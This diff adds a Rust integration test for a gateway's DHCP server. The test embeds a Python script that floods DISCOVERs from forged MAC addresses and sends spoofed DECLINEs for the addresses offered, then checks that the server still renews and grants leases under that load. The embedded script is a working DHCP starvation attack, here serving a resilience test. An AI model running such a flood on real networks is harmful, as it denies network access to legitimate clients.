@@ -229,6 +229,64 @@ fn reservations_are_honoured() {
     assert_eq!(dig(office.pc(2), &format!("printer.{DOMAIN}")), "192.168.1.20");
 }
 
+/// Sends DISCOVERs of forged hardware addresses as fast as it can, and declines what it is offered by those addresses;
+/// says so once it has declined some, and goes on without end. Its argument is the gateway's address.
+const FLOOD: &str = r#"
+import socket, struct, sys
+gateway = socket.inet_aton(sys.argv[1])
+raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
+raw.bind(("eth0", 0x0800))
+raw.setblocking(False)
+def frame(mac, options):
+    dhcp = struct.pack("!BBBBIHH", 1, 1, 6, 0, 7, 0, 0x8000) + bytes(16) + mac + bytes(202) + b"c\x82Sc" + options + b"\xff"
+    udp = struct.pack("!HHHH", 68, 67, 8 + len(dhcp), 0) + dhcp
+    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0) + bytes(4) + b"\xff" * 4
+    total = sum(struct.unpack("!10H", ip))
+    while total >> 16: total = (total & 0xffff) + (total >> 16)
+    return b"\xff" * 6 + mac + b"\x08\0" + ip[:10] + struct.pack("!H", 0xffff ^ total) + ip[12:] + udp
+def send(frame):
+    try: raw.send(frame)
+    except OSError: pass
+discovers = [frame(struct.pack("!HI", 0x0200, 0x99000000 + n), b"\x35\1\1") for n in range(2000)]
+declined = 0
+while True:
+    for discover in discovers:
+        send(discover)
+        try: offer = raw.recv(2048)
+        except OSError: continue
+        if offer[34:38] == b"\0\x43\0\x44" and b"\x35\1\2" in offer:
+            mac, address = offer[70:76], offer[58:62]
+            send(frame(mac, b"\x35\1\4\x32\4" + address + b"\x36\4" + gateway))
+            declined += 1
+            if declined == 10: print("declined", flush=True)
+"#;
+
+#[test]
+fn beside_a_port_that_floods_clients_renew_and_new_ones_get_a_lease() {
+    let office = Office::bare(3, "");
+    let client = Client::udhcpc(office.pc(1), "anna");
+    let address = client.note("bound", 0).address();
+    let directory = Directory::new();
+    fs::write(directory.join("flood.py"), FLOOD).expect("it can be written");
+    let line = format!("/usr/bin/python3 {} {LAN}", directory.join("flood.py").display());
+    let mut flood = office.pc(2).spawn(&line);
+    assert_eq!(flood.hear(), "declined");
+    let dropped = || {
+        office.gateway().show("counters")["dhcp"]["to_server_dropped_queue_full"]
+            .as_u64()
+            .filter(|count| *count > 0)
+    };
+    eventually("more frames than are dealt with", dropped);
+    for index in 0..5 {
+        client.process.signal(Signal::SIGUSR1);
+        let renewed = client.note("renew", index);
+        assert_complete(&renewed, 86_400);
+        assert_eq!(renewed.address(), address);
+    }
+    let new = Client::dhclient(office.pc(3), "berta");
+    assert_complete(&new.note("bound", 0), 86_400);
+}
+
 #[test]
 fn an_address_that_a_client_declines_is_not_offered_again() {
     let office = Office::bare(2, "dhcp.pool = '192.168.1.50-192.168.1.51'");
